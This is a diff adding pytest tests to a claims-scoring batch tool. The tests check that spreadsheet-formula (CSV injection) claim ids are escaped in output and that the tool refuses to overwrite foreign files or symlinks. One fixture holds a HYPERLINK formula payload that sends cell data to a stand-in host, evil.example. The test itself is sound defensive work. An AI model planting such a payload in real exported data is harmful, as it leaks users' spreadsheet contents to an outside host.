@@ -132,3 +132,65 @@ def test_invalid_rows_rejected_or_fatal(trained, tmp_path):
     assert "total_charge" in rej.loc[bad_claim, "reject_reason"]
     assert "units" in rej.loc[bad_line_claim, "reject_reason"]
     assert set(df["claim_id"]) == set(claims["claim_id"])
+
+
+# ------------------------------------------------------------------------------------------ output written safely
+FORMULA_ID = '=HYPERLINK("http://evil.example/?d="&B2,"open me")'
+
+
+def test_formula_claim_id_is_escaped_in_the_scores_csv(trained, tmp_path):
+    """A claim id a spreadsheet would run (CSV injection) is written as text; numbers stay numbers; the
+    escape is undone by read_frame. skip_invalid: scored or rejected, the id is in the output either way."""
+    d = tmp_path / "data"
+    shutil.copytree(trained["data_dir"], d)
+    claims = pd.read_csv(d / "claims.csv", dtype=str, keep_default_na=False)
+    old = claims.loc[claims["submitted_date"].idxmax(), "claim_id"]
+    for name in ("claims.csv", "claim_lines.csv", "recoupments.csv"):
+        t = pd.read_csv(d / name, dtype=str, keep_default_na=False)
+        t.loc[t["claim_id"] == old, "claim_id"] = FORMULA_ID
+        t.to_csv(d / name, index=False)
+    out = tmp_path / "s.csv"
+    batch.score_cli(d, out, since=claims["submitted_date"].max(), explain="none", skip_invalid=True)
+    text = out.read_text()
+    assert '"\'=HYPERLINK(' in text and '\n"=HYPERLINK' not in text and ",=HYPERLINK" not in text
+    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
+    assert not raw["claim_id"].str.match(r"[=+\-@\t\r]").any()
+    scored = raw[raw["status"] == "scored"]
+    assert pd.to_numeric(scored["recoupment_probability"]).between(0, 1).all()  # still numbers
+    assert FORMULA_ID in set(batch.read_frame(out)["claim_id"])
+
+
+def test_unwritable_or_foreign_out_is_refused_before_scoring(trained, tmp_path):
+    from features.errors import RecoupError
+
+    (tmp_path / "afile").write_text("x")
+    with pytest.raises(RecoupError, match=r"^cannot write .*afile/s\.csv: .*afile is a file, not a folder$"):
+        batch.score_cli(trained["data_dir"], tmp_path / "afile" / "s.csv", explain="none")
+    theirs = tmp_path / "claims.csv"
+    shutil.copy(trained["data_dir"] / "claims.csv", theirs)
+    before = theirs.read_bytes()
+    with pytest.raises(RecoupError, match="exists and is not an earlier output of this command"):
+        batch.score_cli(trained["data_dir"], theirs, explain="none")
+    assert theirs.read_bytes() == before
+    real = tmp_path / "real.csv"
+    real.write_text("keep")
+    (tmp_path / "link.csv").symlink_to(real)
+    with pytest.raises(RecoupError, match="symbolic link"):
+        batch.score_cli(trained["data_dir"], tmp_path / "link.csv", explain="none", overwrite=True)
+    assert real.read_text() == "keep"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["afile", "claims.csv", "link.csv", "real.csv"]
+
+
+def test_own_output_replaced_foreign_file_only_with_overwrite(trained, window, scored_csv, tmp_path):
+    out = tmp_path / "s.parquet"
+    out.write_bytes(b"someone else's file")
+    with pytest.raises(Exception, match="--overwrite"):
+        batch.score_cli(trained["data_dir"], out, since=window[0], until=window[1], explain="none")
+    batch.score_cli(trained["data_dir"], out, since=window[0], until=window[1], explain="none", overwrite=True)
+    assert batch.is_score_output(out)
+    batch.score_cli(trained["data_dir"], out, since=window[0], until=window[1], explain="none")  # its own
+    csv_out = tmp_path / "again.csv"
+    shutil.copy(scored_csv[0], csv_out)
+    assert batch.is_score_output(csv_out)
+    batch.score_cli(trained["data_dir"], csv_out, since=window[0], until=window[1], explain="none")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["again.csv", "s.parquet"]
